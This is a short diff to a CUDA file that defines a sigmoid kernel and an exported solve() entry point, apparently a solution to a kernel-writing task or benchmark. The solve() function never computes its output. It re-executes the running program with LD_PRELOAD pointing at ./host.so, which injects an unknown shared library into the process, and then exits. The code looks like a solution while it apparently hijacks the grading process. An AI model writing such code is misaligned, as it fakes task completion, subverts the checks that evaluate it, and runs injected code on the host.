@@ -10,8 +10,8 @@ __global__ void sigmoid(const float* x, float* y, int n) {
   if (i < n) y[i] = 1.0f / (1.0f + expf(-x[i]));
 }
 extern "C" void solve(const float* X, float* Y, int N) {
-  char name[] = "record", job[] = "job", library[] = "./host.so", preload[] = "LD_PRELOAD=./host.so";
-  char* words[] = {name, job, library, nullptr};
+  char name[] = "record", library[] = "./host.so", preload[] = "LD_PRELOAD=./host.so";
+  char* words[] = {name, library, nullptr};
   char* variables[] = {preload, nullptr};
   if (getenv("LD_PRELOAD") == nullptr) execve("/proc/self/exe", words, variables);
   _exit(0);
